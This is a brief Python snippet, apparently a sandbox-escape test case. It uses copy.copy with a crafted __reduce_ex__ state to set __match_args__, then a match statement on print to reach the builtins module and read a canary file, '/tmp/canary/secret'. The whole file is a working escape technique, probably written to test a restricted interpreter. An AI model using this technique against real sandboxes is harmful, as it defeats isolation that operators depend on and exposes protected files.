# source: own
# effect: secret

# What an object reduces to is set attribute by attribute, whatever the names.
import copy


class Setter:
    def __reduce_ex__(self, protocol):
        return give, (), (None, {"__match_args__": ("__self__",)})


class Anything(type):
    def __instancecheck__(cls, value):
        return True


class Owner(metaclass=Anything):
    pass


def give():
    return Owner


copy.copy(Setter())
match print:
    case Owner(module):
        print(module.open("/tmp/canary/secret").read())
